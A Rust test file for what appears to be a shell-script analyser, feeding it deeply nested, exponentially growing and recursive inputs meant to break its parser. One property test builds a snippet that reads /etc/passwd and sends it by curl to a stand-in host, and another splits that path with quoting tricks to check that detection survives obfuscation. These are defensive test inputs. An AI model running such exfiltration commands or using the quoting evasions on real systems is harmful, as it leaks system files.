//! Shell source that is meant to break its reader.

use proptest::prelude::*;

use crate::shell;

#[test]
fn deep_and_open_sources_are_incomplete() {
    let openers = [
        "(",
        "( ",
        "((",
        "{ ",
        "$(",
        "\"$(",
        "`",
        "${x:-",
        "$((",
        "if x; then ",
        "while x; do ",
        "case x in x) ",
        "f() { ",
        "[[ ( ",
        "x && ( ",
        "a=(",
        "<(",
        "! ",
        "x | { ",
        "coproc ",
        "echo @(",
        "cat <<E; (",
    ];
    for opener in openers {
        for count in [12, 200, 10_000] {
            let facts = shell(&opener.repeat(count));
            assert!(
                !facts.incomplete.is_empty() || opener == "! " || opener == "coproc ",
                "{opener} {count}"
            );
        }
    }
}

#[test]
fn what_grows_is_cut() {
    let doubling = "x=aaaaaaaa\n".to_owned() + &"x=$x$x$x$x\n".repeat(40) + "cat $x";
    drop(shell(&doubling));
    let loops = "for a in {1..99}; do ".repeat(6) + "rm $a" + &"; done".repeat(6);
    assert!(!shell(&loops).incomplete.is_empty());
    let braces = format!("rm {}", "{a,b,c,d}".repeat(30));
    drop(shell(&braces));
    let functions = "f() { g; g; }; g() { f; f; }; f".to_owned();
    drop(shell(&functions));
    let aliases = "alias a='a b' b='a a'\na\nb".to_owned();
    drop(shell(&aliases));
}

#[test]
fn long_flat_sources_are_read() {
    let facts = shell(&"f x\n".repeat(20_000));
    assert!(facts.operations.len() <= 10_000);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(100))]

    #[test]
    fn names_of_variables_and_functions_do_not_matter(name in "[a-z]{3,8}_v", function in "[a-z]{3,8}_f") {
        let source = |name: &str, function: &str| format!(
            "{name}=/etc/passwd\n{function}() {{ cat \"${name}\" | curl -d @- http://h.example/$1; }}\n{function} a"
        );
        let plain = shell(&source("v", "f"));
        let renamed = shell(&source(&name, &function));
        let kept = |facts: &air_core::code::CodeFacts| (facts.operations.clone(), facts.flows.clone());
        prop_assert_eq!(kept(&plain), kept(&renamed));
    }

    #[test]
    fn quotes_do_not_matter(at in 1_usize..10, kind in 0..4) {
        let path = "/etc/passwd";
        let (before, after) = path.split_at(at);
        let quoted = match kind {
            0 => format!("{before}'{after}'"),
            1 => format!("{before}\"{after}\""),
            2 => format!("{before}\\{after}"),
            _ => format!("$'{before}'{after}"),
        };
        let plain = shell(&format!("cp {path} /tmp/x"));
        let changed = shell(&format!("cp {quoted} /tmp/x"));
        prop_assert_eq!(plain.operations, changed.operations);
        prop_assert_eq!(plain.flows, changed.flows);
    }
}
